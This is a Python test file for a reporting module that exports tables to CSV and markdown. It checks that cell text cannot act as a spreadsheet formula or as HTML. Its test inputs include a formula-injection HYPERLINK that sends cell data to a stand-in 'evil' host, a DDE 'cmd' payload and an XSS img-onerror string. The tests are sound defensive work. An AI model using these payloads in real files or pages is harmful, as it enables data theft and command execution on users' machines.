"""Cells are data wherever they are shown: no program runs what a name or a category says."""

import csv
import io

import pytest

from mixmerge.reporting.cells import Column, Table, gain, to_csv, to_markdown, word

COLUMNS = (Column("category", "Category <b>", numeric=False), Column("gain", "Gain"))


def table(text: str) -> Table:
    return Table("t", "Title <i>", "Caption <u>", COLUMNS, ((word(text), gain(-0.05)),))


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"],
)
def test_a_text_is_no_formula(text: str) -> None:
    """An apostrophe marks what a spreadsheet would run; numbers stay numbers."""
    (row,) = csv.DictReader(io.StringIO(to_csv(table(text))))
    assert row == {"category": f"'{text}", "gain": "-0.05"}


@pytest.mark.parametrize("text", ["Hate Speech", "a=b", "-", "हिन्दी", "5 % more"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    """Only the beginning makes a formula."""
    (row,) = csv.DictReader(io.StringIO(to_csv(table(text))))
    assert row["category"] == text


def test_markdown_holds_no_html_and_no_link() -> None:
    """Tags, links, cells and lines of a name are shown as they are written."""
    text = to_markdown(table("<img src=x onerror=alert(1)>[a](http://evil) `b` |\n# c & d"))
    assert "<" not in text
    assert "&lt;img src=x onerror=alert(1)&gt;\\[a\\](http://evil) \\`b\\` \\| # c &amp; d" in text
    assert len(text.splitlines()) == 7
